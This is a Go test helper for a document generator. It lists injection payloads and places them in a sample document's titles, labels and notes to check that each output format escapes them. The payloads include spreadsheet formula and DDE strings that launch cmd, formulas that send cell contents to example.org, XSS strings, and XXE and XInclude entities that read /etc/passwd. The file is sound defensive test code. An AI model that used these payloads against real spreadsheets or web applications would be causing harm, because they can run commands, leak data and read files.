package doctest

import (
	"fmt"

	"htsm/generator/doc"
)

// Payloads returns texts that attack a program which takes a text for more
// than a text: formulas and their disguises (CWE-1236), markup and scripts
// (CWE-79), XML entities and sections (CWE-611), escapes and fields of
// spreadsheets. None has control characters, so every format must show each as
// it stands.
func Payloads() []string {
	return []string{
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1,1)`, ` =1+1`, "\u00a0=1+1", `＝1+1`, `＋1`, `－1`, `＠x`, `'=1+1`, `"=1+1"`, `;=1+1`, `,=1+1`,
		`=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=10+20+cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-cmd|' /C calc'!A0`,
		`=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc'!''`, `DDE("cmd";"/C calc";"!A0")A0`, `=DDE("cmd";"/C calc";"x")`,
		`=HYPERLINK("https://example.org/?x="&A1,"x")`, `=WEBSERVICE("https://example.org/"&A1)`, `=IMPORTXML(CONCAT("https://example.org/",A1),"//a")`,
		`=IMAGE("https://example.org/x.png")`, `=INDIRECT("A1")`, `=EXEC("calc")`, `=REGISTER.ID("x","y")`, `{=1+1}`, `=1+1";=1+1`, `=LAMBDA(x,x)(1)`,
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `<svg/onload=alert(1)>`, `javascript:alert(1)`,
		`</t></is></c><c r="Z1"><f>1+1</f></c>`, `</a:t></a:r><a:r><a:t>x`, `<f>1+1</f>`, `<![CDATA[x]]>`, `]]>`, `<!-- x --`, `-->`,
		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, `&e;`, `&lt;&#60;&amp;`, `<?xml version="1.0"?>`, `<?mso-application progid="Excel.Sheet"?>`,
		`<xi:include href="file:///etc/passwd" parse="text"/>`, `%25%3Cscript%3E`, `${7*7}`, `{{7*7}}`, `#{7*7}`, `__f__alert(1)__f__`,
		`_x003D_1+1`, `_x0041_`, `_x005F_x0041_`, `&P&N&D&F`, `&"Arial,Bold"&K00-1`, `&&P`, `#REF!`, `#N/A`, `TRUE`, `1E5`, `00123`, `1/2`, `2026-10-01`,
		`'quoted'`, `sheet'!A1`, `[1]Sheet1!A1`, `\\example.org\share\x`, `file:///etc/passwd`, `a;b,c|d`, `""`, `"`, `'`, `,`, `\`,
	}
}

// Hostile returns the sample with payloads in place of its titles, labels,
// heads and notes; every call returns the same document.
func Hostile() *doc.Document {
	d, list, n := Sample(), Payloads(), 0
	next := func() string {
		n++
		return list[(n-1)%len(list)]
	}
	d.Meta.Title, d.Meta.Subtitle, d.Meta.Publisher, d.Meta.Reference = next(), next(), next(), next()
	d.Meta.Contact.Name, d.Meta.Next = next(), next()
	for i := range d.Meta.Facts {
		d.Meta.Facts[i].Text = next()
	}
	for i := range d.Notes {
		d.Notes[i].Text = []doc.Inline{&doc.Text{Text: next()}}
	}
	for i := range d.Sources {
		d.Sources[i].Name, d.Sources[i].File = next(), fmt.Sprintf("%s %d", next(), i)
	}
	for _, k := range d.Grids() {
		for i := range k.Stub {
			k.Stub[i] = next()
		}
		for i := range k.Cols {
			k.Cols[i].Text = next()
		}
		for i := range k.Rows {
			for l := range k.Rows[i].Heads {
				k.Rows[i].Heads[l].Text = next()
			}
		}
		k.Summary, k.Unit, k.Source, k.Caption = next(), next(), next(), []doc.Inline{&doc.Text{Text: next()}}
		if f := k.Figure; f != nil {
			f.Alt, f.Source, f.Caption = next(), next(), []doc.Inline{&doc.Text{Text: next()}}
			f.Chart.Title, f.Chart.Subtitle, f.Chart.Value = next(), next(), next()
		}
	}
	return d
}
